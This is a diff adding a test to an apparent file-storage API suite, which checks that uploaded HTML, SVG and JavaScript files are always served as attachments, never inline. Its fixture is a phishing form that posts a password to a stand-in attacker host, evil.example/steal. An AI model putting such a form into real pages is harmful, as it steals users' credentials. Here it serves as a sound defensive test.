@@ -298,6 +298,26 @@ describe('batch uploads, complete and downloads', () => {
     expect(response.headers.get('content-disposition')).toMatch(/^inline/);
     expect(missing).toEqual({ path: 'versions/doc.txt', error: { code: 'not_found', message: expect.any(String) } });
   });
+
+  it('never serves a page inline (HTML, SVG, scripts): through a link, the content route or a share, it comes as a file', async () => {
+    const page = text('<form action="https://evil.example/steal"><input name="password"></form>');
+    for (const [path, contentType] of [['pages/invoice.pdf', 'text/html'], ['pages/logo.svg', undefined], ['pages/app.js', 'Text/JavaScript; charset=utf-8']] as const) {
+      expect((await uploadBytes(api, path, page, contentType ? { contentType } : {})).status).toBe(200);
+      const link = (await api.post('/v1/batch/downloads', { files: [{ path }], disposition: 'inline' })).body.downloads[0];
+      const share = await api.post('/v1/shares', { path, disposition: 'inline' });
+      const viaShare = (await fetch(share.body.url, { redirect: 'manual' })).headers.get('location')!;
+      const viaRoute = (await api.get(`/v1/content/${path}?disposition=inline`)).headers.get('location')!;
+      for (const url of [link.url, viaShare, viaRoute]) {
+        const response = await fetch(url);
+        expect(await response.text()).toBe(new TextDecoder().decode(page));
+        expect(response.headers.get('content-disposition'), `${path} ${url}`).toMatch(/^attachment; filename=/);
+      }
+    }
+    // Anything else is shown inline when asked.
+    await uploadBytes(api, 'pages/photo.png', text('png'));
+    const png = (await api.post('/v1/batch/downloads', { files: [{ path: 'pages/photo.png' }], disposition: 'inline' })).body.downloads[0];
+    expect((await fetch(png.url)).headers.get('content-disposition')).toMatch(/^inline/);
+  });
 });
 
 describe('batch envelopes', () => {
